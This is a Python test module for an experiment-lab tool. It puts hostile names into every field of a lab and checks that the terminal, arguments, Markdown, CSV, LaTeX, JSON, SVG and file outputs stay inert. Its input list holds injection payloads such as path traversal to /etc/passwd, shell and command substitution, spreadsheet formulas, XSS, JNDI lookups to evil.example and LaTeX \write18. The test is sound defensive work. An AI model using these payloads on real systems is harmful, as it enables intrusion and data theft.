"""Hostile texts in every field of a lab that holds one, on every surface that shows them."""

import contextlib
import csv
import io
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from unittest import mock

import orjson
from markdown_it import MarkdownIt

from zhurnal.analyze import figures, summary, table
from zhurnal.api import Lab
from zhurnal.cli import main
from zhurnal.core.records import encode
from zhurnal.core.text import UNSAFE, plain_json
from zhurnal.report import entry, journal

from .tally import Tally

NAMES: tuple[str, ...] = (
    "../../outside", "/etc/passwd", "..\\..\\outside", "%2e%2e%2foutside", "%252e%252e/outside", "a/../../../outside", "....//outside", "~/outside",
    "$HOME/outside", "file:///etc/passwd", "a;rm -rf outside", "a#b", "a?b&c", "a\nb", "a\r\nb", "a\tb", "a\x00b",
    "\x1b[2J\x1b[1;1Hgone", "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31mred", "\x07\x08\x08\x08", "\x7f\x7f", "abc\u202egpj.exe", "\u2066isolate\u2069",
    "\u200fmark",
    "a\u2028b\u2029c", "\ufeffbom", "x" * 255, "я" * 130, "x" * 1999, "CON", "nul.txt", "aux.yaml", "-rf", "--help", "-", ".", "..", " ",
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", '=HYPERLINK("http://evil.example")', "🔬👩‍🔬", "cafe\u0301", "caf\u00e9",
    "E0001", "e0001", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></table><b>", "<!-- zhurnal:end table -->", "-->", "<!--",
    "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "](javascript:alert(1))", "<javascript:alert(1)>", "http://evil.example", "`rm`",
    "a|b|c", "# title", "* * *", "&lt;script&gt;", "${jndi:ldap://evil.example}", "{{7*7}}", "{% x %}", "\\input{/etc/passwd}", "\\write18{ls}",
    "$x^2$", "~~a~~", "%s%n", "${IFS}", "$(touch outside)", "`touch outside`", "'; DROP TABLE line; --", '"quoted"', "NaN", "null", "true",
)  # fmt: skip
EVIL = ("evil.example", "javascript:", "outside")


def make_lab(folder: Path, name: str) -> Lab:
    """Return a lab with a hostile name in each of its texts: as if somebody had sent it."""
    with mock.patch.object(os, "fsync", return_value=None):
        lab = Lab(Lab.init(folder, name).folder)
        lab.new({"data": "digits"}, question=name[:2000])
        lab.new({"optimizer": "adam"}, parent="e0001", question=name[:2000])
    values = lab.experiment("e0001").values
    option = {} if UNSAFE.search(name) else {"width": name}  # such characters are refused in settings: see hostile_yaml.py
    values = {**values, "model": {"name": "my_net.py:Net", **option}}
    told = {"question": name, "settings": values, "series": name, "created": name}
    lab.file("e0001").write_text(plain_json(json.dumps(told, ensure_ascii=False)))  # JSON is YAML: any character can be written
    for number, seed in ((1, 42), (2, 42)):
        home = lab.run_folder(f"e{number:04d}", seed)
        home.mkdir(parents=True)
        data = {"name": name, "fingerprint": "ab" * 32, "classes": [name, "b"], "image": [1, 8, 8], "num_train": 9, "num_val": 1, "num_test": 0}
        data |= {"mean": [0.5], "std": [0.5], "validation": name, "notes": [name]}
        effective = {"experiment": name, "seed": 42, "settings": lab.experiment(f"e{number:04d}").settings.to_dict(), "continue": None, "data": data}
        effective |= {"model": {"num_parameters": 9}, "device": name, "num_threads": 1, "sources": {name: {"file": name, "sha256": name}}}
        (home / "effective.json").write_bytes(orjson.dumps(effective))
        row = {"kind": "epoch", "epoch": 1, "step": 9, "lr": 0.1, "train_loss": 1.0, "train_acc": 0.5, "val_loss": 1.0, "val_acc": 0.5}
        (home / "record.jsonl").write_bytes(encode(row))
        at = {"time": "2026-01-01T00:00:00+00:00"}
        events: list[dict[str, Any]] = [{"kind": "start", **at, "step": 0, "epoch": 0}, {"kind": "warning", **at, "text": name}]
        events.append({"kind": "stop", "time": name, "status": "failed", "step": 9, "epoch": 1, "reason": name})
        (home / "events.jsonl").write_bytes(b"".join(map(encode, events)))
    return Lab(lab.folder)


def command(lab: Path, *arguments: str) -> tuple[Any, str]:
    """Return the exit status of a command and all it prints."""
    out = io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            main(["--lab", str(lab), *arguments])
    except SystemExit as stop:
        return stop.code, out.getvalue()
    return 0, out.getvalue()


def is_plain(text: str) -> bool:
    """Return whether a terminal would only show a text."""
    return UNSAFE.search(text.replace("\n", "")) is None


def in_terminal(lab: Lab, name: str) -> str:
    """What `ls` and `show` print."""
    for arguments in (["ls"], ["show", "e0001"], ["show", "e0002"], ["compare", "e0001-e0002", "--figures", "none"], ["diff", "e0001", "e0002"]):
        status, text = command(lab.folder, *arguments)
        if status or not is_plain(text) or "Traceback" in text:
            return f"{arguments[0]} ended with {status}: {text!r:.200}"
    return ""


def as_argument(lab: Lab, name: str) -> str:
    """What commands make of a name they are given."""
    calls = (["show", name], ["rm", name], ["restore", name], ["renumber", name], ["run", name], ["new", "--from", name], ["write", name],
             ["compare", name], ["new", f"model={name}"], ["new", f"{name}=1"], ["merge", name], ["renumber", "--against", name],
             ["ls", "--sort", name],
             ["compare", "e0001", "--columns", name], ["compare", "e0001", "--figures", name], [name])  # fmt: skip
    for arguments in calls:
        if "\x00" in name or name in ("-", "--help", "E0001", "e0001", "..", ".") or (arguments == [name] and not name.strip()):
            continue  # no system hands this over; or it is a word that is meant
        status, text = command(lab.folder, *arguments)
        if status != 2 or not is_plain(text) or "Traceback" in text:
            return f"{arguments[0]} ended with {status}: {text!r:.200}"
    return ""


def in_files(lab: Lab, name: str) -> str:
    """Which files there are, in the lab and beside it."""
    beside = [p.name for p in lab.folder.parent.iterdir() if p != lab.folder]
    odd = [p for p in lab.folder.rglob("*") if not re.fullmatch(r"[A-Za-z0-9_,.-]+", p.name)]
    return f"made {beside or odd}" if beside or odd else ""


# What a page of ours holds: a comment, a line break, and evidence that is folded, as text without any tag in it.
OUR_HTML = r"(?s)(\s*<!--(?!.*-->.*-->).*-->\s*|<br>|\s*<details><summary>evidence</summary>[^<]*</details>\s*)"


def in_markdown(lab: Lab, name: str) -> str:
    """What Markdown readers make of an entry and of the list of entries."""
    told = summary.read_all(lab, ["e0001", "e0002"])
    page = entry.new_page(told, entry.contents_of(told, lab, (*entry.BLOCKS, "observations")))
    entry.parse_entry(page)
    (lab.journal / "e0001-e0002.md").write_text(page)
    listing = journal.listing(lab)
    (lab.journal / "e0001-e0002.md").unlink()
    for text in (page, listing, table.markdown(table.tabulate(told))):
        if not is_plain(text):
            return f"{text!r:.200} would not only be shown"
        for token in MarkdownIt("commonmark", {"html": True, "linkify": False}).enable(["table", "strikethrough"]).parse(text):
            for inner in (token, *(token.children or ())):
                if inner.type in ("html_block", "html_inline") and not re.fullmatch(OUR_HTML, inner.content):
                    return f"live HTML {inner.content!r:.100}"
                target = str(inner.attrs.get("href") or inner.attrs.get("src") or "")
                if target and not re.fullmatch(r"(fig/)?e0001[-,%A-Za-z0-9_]*\.(md|png)", target):
                    return f"a link to {target!r:.100}"
    return ""


def in_csv(lab: Lab, name: str) -> str:
    """What a spreadsheet makes of the table."""
    text = table.csv(table.compare(lab, ["e0001", "e0002"], columns=list(table.COLUMNS)))
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if (re.match(r"\s*[=+@-]", cell) and not re.fullmatch(r"-?[\d.e+-]+", cell)) or not is_plain(cell):
                return f"a cell {cell!r:.100}"
    return ""


def in_latex(lab: Lab, name: str) -> str:
    """What LaTeX makes of the table."""
    text = table.latex(table.compare(lab, ["e0001", "e0002"], columns=list(table.COLUMNS)))
    commands = set(re.findall(r"\\[A-Za-z0-9]+", text))
    known = set(re.findall(r"\\[A-Za-z0-9]+", "".join(table._LATEX.values())))
    known |= {"\\begin", "\\centering", "\\toprule", "\\midrule", "\\bottomrule", "\\end", "\\par", "\\smallskip", "\\footnotesize"}
    return f"commands {sorted(commands - known)}" if commands - known or not is_plain(text) else ""


def in_json(lab: Lab, name: str) -> str:
    """What JSON says, and what a terminal makes of it."""
    text = table.to_json(table.compare(lab, ["e0001", "e0002"], columns=list(table.COLUMNS)))
    json.loads(text)
    return "" if is_plain(text) else f"{text!r:.200} would not only be shown"


def in_figure(lab: Lab, name: str) -> str:
    """What a browser makes of a figure."""
    drawn = figures.render(summary.read_all(lab, ["e0001", "e0002"]), "val_acc_epoch", ["svg"])["svg"].decode()
    tags = set(re.findall(r"<\s*/?\s*([A-Za-z:]+)", drawn))
    live = tags & {"script", "img", "a", "image", "foreignObject", "iframe"}
    return f"live {sorted(live)}" if live or "javascript:" in drawn else ""


SURFACES: tuple[Callable[[Lab, str], str], ...] = (in_terminal, as_argument, in_markdown, in_csv, in_latex, in_json, in_figure, in_files)


def hostile_names(tally: Tally) -> None:
    """Show `wanted` of NAMES, each on all SURFACES."""
    for name in NAMES[: tally.wanted]:
        with tally.place() as folder:
            lab = make_lab(folder / "lab", name)
            for surface in SURFACES:
                try:
                    wrong = surface(lab, name)
                except Exception as error:  # noqa: BLE001 - whatever it is, it is no error that a person can read
                    wrong = f"{type(error).__name__}: {error}"
                tally.count(not wrong, f"{name[:60]!r} {surface.__name__}: {wrong}")
